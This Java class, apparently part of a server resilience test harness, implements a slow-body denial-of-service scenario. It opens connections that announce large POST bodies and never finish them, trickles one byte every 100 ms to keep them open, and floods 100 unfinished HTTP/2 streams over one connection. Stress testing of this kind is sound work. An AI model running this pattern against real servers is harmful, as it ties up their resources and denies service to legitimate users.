package dev.belfry.attack.strangers;

import dev.belfry.attack.stage.Http2Frames;
import dev.belfry.attack.stage.Requests;
import dev.belfry.attack.stage.Stage;
import dev.belfry.attack.stage.Stranger;
import java.io.IOException;
import java.time.Duration;

/** Large publications that never come to their end: announced only, half sent, and a hundred on one connection. */
final class SlowBodies implements Attack {
    private static final int ANNOUNCED = 9;
    private static final int HALF_SENT = 9;
    private static final int STREAMS = 100;
    private static final byte[] BYTE = Requests.filler(1);

    @Override
    public String name() {
        return "slow-bodies";
    }

    @Override
    public String what() {
        return "9 bodies of 4 MB announced and 9 half sent, a byte in 100 ms; a connection of HTTP/2 with 100";
    }

    @Override
    public void run(Stage stage) throws IOException {
        byte[] head = Requests.announcedPost(Stage.LARGE_BYTES, "Content-Type: text/plain");
        byte[] half = Requests.filler(Stage.LARGE_BYTES / 2);
        stage.crowd().gather(ANNOUNCED, stranger -> stranger.send(head));
        stage.crowd().gather(HALF_SENT, stranger -> stranger.send(head).send(half));
        byte[] streams = streams();
        stage.crowd().gather(1, stranger -> stranger.send(streams));
        stage.every(
                Duration.ofMillis(100),
                () -> stage.crowd().strangers().stream()
                        .limit(ANNOUNCED + HALF_SENT)
                        .filter(Stranger::isOpen)
                        .forEach(stranger -> stranger.send(BYTE)));
    }

    private static byte[] streams() {
        Http2Frames frames = Http2Frames.connection(1 << 20);
        for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
            frames.post(stream, "content-length", Integer.toString(Stage.LARGE_BYTES))
                    .data(stream, Requests.filler(600));
        }
        return frames.bytes();
    }
}
